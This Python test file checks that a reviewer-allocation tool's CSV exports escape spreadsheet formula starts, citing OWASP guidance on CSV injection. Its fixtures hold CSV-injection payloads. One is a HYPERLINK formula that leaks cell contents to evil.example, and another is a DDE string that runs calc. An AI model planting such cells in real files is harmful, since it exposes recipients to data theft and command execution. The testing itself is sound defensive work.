"""Spreadsheet-safe exports (OWASP guidance on CSV injection): no cell starts a formula."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from review_alloc.io import import_csv
from review_alloc.io.cells import FORMULA_STARTS, csv_text, safe_cell, unmarked_cell
from review_alloc.io.export import export_plan_csv
from review_alloc.io.session_csv import write_session_csv
from review_alloc.model import (
    Assignment,
    Conflict,
    Paper,
    Plan,
    PlanFigures,
    Reviewer,
    ScoreTable,
    Session,
)

# The characters the OWASP CSV injection guidance names as formula starts.
OWASP_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "Line one\nline two",
    "Carriage\rreturn",
    'Quote " and, comma',
    "'=already quoted",
]


def _session() -> Session:
    papers = [Paper(id=f"-P{k}", title=t) for k, t in enumerate(HOSTILE_TITLES)]
    reviewers = [
        Reviewer(id="+R1", name="=cmd|' /C calc'!A0", email="=cmd@wrenholt.example"),
        Reviewer(id="@R2", name="Dario\nHoltkvist", email="dario@ashmere.example"),
    ]
    pairs = [(p.id, r.id, 0.25 * (k % 4)) for k, p in enumerate(papers) for r in reviewers[:1]]
    pairs.append((papers[0].id, "@R2", 1e6))
    total = sum(s for _, _, s in pairs)
    plan = Plan(
        assignments=[Assignment(paper=p, reviewer=r, score=s) for p, r, s in pairs],
        figures=PlanFigures(
            required_coverage=0,
            required_demand=0,
            coverage=len(pairs),
            demand=3 * len(papers),
            floors_met=0,
            floors_demand=0,
            total_score=total,
            assigned=len(pairs),
        ),
        created_at=datetime(2027, 3, 1, tzinfo=UTC),
        checked=True,
        method="min-cost flow",
    )
    scores = ScoreTable.from_arrays(
        [0 if r == "+R1" else 1 for _, r, _ in pairs],
        [next(i for i, p in enumerate(papers) if p.id == pid) for pid, _, _ in pairs],
        [s for _, _, s in pairs],
    )
    return Session(
        name="Hostile Harbour",
        papers=papers,
        reviewers=reviewers,
        conflicts=[Conflict(reviewer="@R2", paper="-P3", reason="=1+1")],
        scores=scores,
        plan=plan,
    )


def test_safe_cell_follows_the_owasp_rule() -> None:
    assert FORMULA_STARTS == OWASP_STARTS
    for start in OWASP_STARTS:
        assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell("plain") == "plain" and safe_cell("'quoted") == "'quoted"
    assert safe_cell("''=x") == "'''=x"
    assert safe_cell(-3) == -3 and safe_cell(0.5) == 0.5
    with pytest.raises(ValueError):
        safe_cell(float("inf"))
    with pytest.raises(TypeError):
        safe_cell(True)


@given(st.text())
def test_safe_cells_never_start_a_formula_and_read_back_unchanged(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str) and not cell.startswith(OWASP_STARTS)
    assert unmarked_cell(cell) == text


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=5))
def test_rows_never_split_when_read_with_pythons_csv_reader(rows: list[list[str]]) -> None:
    text = csv_text(["a", "b", "c"], rows)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == ["a", "b", "c"]
    assert [[unmarked_cell(c) for c in row] for row in read[1:]] == rows


@pytest.mark.parametrize("by", ["paper", "reviewer"])
def test_an_export_of_hostile_titles_and_names_starts_no_formula(tmp_path: Path, by: str) -> None:
    session = _session()
    target = tmp_path / "plan.csv"
    written = export_plan_csv(session, target, by=by)  # type: ignore[arg-type]
    assert session.plan is not None and written == len(session.plan.assignments)
    raw = target.read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == written + 1, "an embedded line break split a row"
    header = rows[0]
    at_score = header.index("score")
    for row in rows[1:]:
        assert len(row) == len(header)
        for k, cell in enumerate(row):
            assert not cell.startswith(OWASP_STARTS), cell
            if k == at_score:
                float(cell)  # a number, not text
    # Score cells are written as bare numbers, never quoted or prefixed.
    assert ",1000000.0,no\n" in raw
    titles = {unmarked_cell(row[header.index("title")]) for row in rows[1:]}
    assert titles == set(HOSTILE_TITLES)


def test_an_export_with_a_bom_opens_as_utf8(tmp_path: Path) -> None:
    session = _session()
    plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
    export_plan_csv(session, plain)
    export_plan_csv(session, marked, bom=True)
    assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
    assert marked.read_text(encoding="utf-8-sig") == plain.read_text(encoding="utf-8")


@pytest.mark.parametrize("bom", [False, True])
def test_session_files_with_hostile_text_round_trip_through_the_importer(
    tmp_path: Path, bom: bool
) -> None:
    session = _session().model_copy(update={"plan": None})
    write_session_csv(session, tmp_path, bom=bom)
    again = import_csv(
        *(tmp_path / f"{name}.csv" for name in ("papers", "reviewers", "conflicts", "scores")),
        name=session.name,
    )
    assert again.papers == session.papers
    assert again.reviewers == session.reviewers
    assert again.conflicts == session.conflicts
    assert again.scores == session.scores


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_no_formula_from_a_hostile_export(tmp_path: Path) -> None:
    # An outside check: LibreOffice Calc, headless, converts the CSV files to flat ODF; a cell
    # it took for a formula carries a table:formula attribute there.
    safe = tmp_path / "safe.csv"
    export_plan_csv(_session(), safe)
    # The control: the same cells written by Python's csv module, unprotected.
    unsafe = tmp_path / "unsafe.csv"
    with unsafe.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["title"], *([t] for t in HOSTILE_TITLES)])
    out = tmp_path / "out"
    profile = (tmp_path / "profile").as_uri()
    subprocess.run(
        [
            str(_soffice()),
            f"-env:UserInstallation={profile}",
            "--headless",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            str(safe),
            str(unsafe),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    assert "table:formula" in (out / "unsafe.fods").read_text(encoding="utf-8")
    converted = (out / "safe.fods").read_text(encoding="utf-8")
    assert "table:formula" not in converted
    assert "=HYPERLINK" in converted  # the title is there, as text
